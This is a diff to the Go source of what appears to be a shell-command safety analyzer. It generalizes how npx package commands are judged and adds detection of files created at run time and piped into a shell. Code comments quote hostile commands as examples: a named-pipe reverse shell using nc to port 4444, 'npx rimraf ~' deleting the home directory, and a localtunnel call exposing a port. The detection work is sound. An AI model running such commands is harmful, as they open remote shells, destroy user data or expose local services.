@@ -152,9 +152,8 @@ func sortedKeys(m map[string]bool) []string {
 	return out
 }
 
-// npxLaunchers maps the npm packages of launchers whose command has
-// another name to it.
-var npxLaunchers = map[string]string{"dotenv-cli": "dotenv", "@dotenvx/dotenvx": "dotenvx"}
+// npxLaunchers maps npm packages whose command has another name to it.
+var npxLaunchers = map[string]string{"dotenv-cli": "dotenv", "@dotenvx/dotenvx": "dotenvx", "localtunnel": "lt"}
 
 func lastWrapper(c *Call) string {
 	if len(c.Wrappers) == 0 {
@@ -816,17 +815,17 @@ func (w *walker) npx(c scope, call *Call, args []Arg) {
 		w.child(c, call, quoteArgv(words), nil, "npx "+name, dynamic)
 		return
 	}
-	if lang.ForProgram(name) != "" || testRunners.Get()[name] {
-		// npx tsx app.ts: a package that is an interpreter runs its
-		// script as the interpreter does; npx jest runs the suite.
-		words := []string{name}
-		for _, a := range args[i+1:] {
-			words = append(words, a.Value)
-		}
-		w.child(c, call, quoteArgv(words), nil, "npx "+name, !args[i].Static)
-		return
+	// Any other package runs its command with the words after it (npx
+	// tsx app.ts runs the script as the interpreter does, npx jest the
+	// suite, npx rimraf ~ deletes home, npx localtunnel --port 8000
+	// publishes a port): the command is judged as if typed by its name.
+	words := []string{name}
+	dynamic := false
+	for _, a := range args[i+1:] {
+		words = append(words, a.Value)
+		dynamic = dynamic || !a.Static
 	}
-	w.deletingPackage(c, call, name, args[i+1:])
+	w.child(c, call, quoteArgv(words), nil, "npx "+name, dynamic)
 }
 
 // deletingPackage models the command of an npm package that deletes its
@@ -1451,6 +1450,18 @@ func (w *walker) hiddenPipe(p *Pipeline, i int) {
 		}
 		if downloaders.Get()[st.Name] {
 			return
+		}
+	}
+	if src.Name == "cat" {
+		// A file this command made with content only known at run time
+		// (a named pipe: mkfifo f; cat f | sh -i 2>&1 | nc h 4444 > f,
+		// a download, sed -i's result) is a script corral cannot see.
+		for _, a := range src.Args {
+			if d := src.Dir.Join(a.Value); a.Static && d.Known && w.opaque[d.Path] {
+				w.m.Hidden = append(w.m.Hidden, Hidden{Call: sink, Text: src.Text(), Always: true,
+					What: sink.Name + " runs, as a script, " + d.Path + ", which this command made with content only known at run time"})
+				return
+			}
 		}
 	}
 	if src.Name == "cat" || src.Name == "echo" || src.Name == "printf" {
